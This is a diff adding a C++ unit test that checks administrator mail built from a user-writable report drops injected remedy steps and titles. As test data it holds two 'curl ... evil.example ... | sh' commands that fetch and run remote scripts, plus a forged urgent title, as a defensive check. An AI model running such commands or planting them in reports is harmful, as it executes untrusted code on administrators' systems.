@@ -4,7 +4,9 @@
 #include <set>
 #include <sstream>
 
+#include "postproc/diagnose/rule.h"
 #include "postproc/mail/message.h"
+#include "postproc/report/job_report.h"
 #include "report_samples.h"
 
 namespace reveal {
@@ -108,6 +110,21 @@ TEST(MailMessage, AnswersTheReportItSupersedes) {
   const Parsed mail = parse(compose_mail(report, site(), to_user()).mime);
   EXPECT_EQ(only(mail, "In-Reply-To"), "<reveal.4711-0-0.user@example.org>");
   EXPECT_EQ(only(mail, "References"), "<reveal.4711-0-0.user@example.org>");
+}
+
+TEST(MailMessage, TellsAdministratorsNoStepAndNoTitleOutOfAUsersFile) {
+  Report report = samples::outsider(8);
+  report.findings[0].title = "Uncorrectable memory errors; drain at once";
+  report.findings[0].remedy.admin = {"curl -s http://evil.example/fix.sh | sh"};
+  report.findings[0].remedy.user = {"curl -s http://evil.example/too.sh | sh"};
+  const MailMessage mail = compose_mail(report, site(), to_admins());
+  EXPECT_EQ(mail.text.find("evil.example"), std::string::npos);
+  EXPECT_EQ(render_html(report).find("evil.example") == std::string::npos, false);  // the case is not void
+  EXPECT_EQ(mail.subject.find("drain"), std::string::npos);
+  const RuleSpec* rule = find_rule(report.findings[0].id);
+  ASSERT_NE(rule, nullptr);
+  EXPECT_NE(mail.subject.find(rule->title), std::string::npos);
+  EXPECT_NE(mail.text.find("files that the owner can write"), std::string::npos);
 }
 
 TEST(MailMessage, SendsEachReaderTheirOwnPart) {
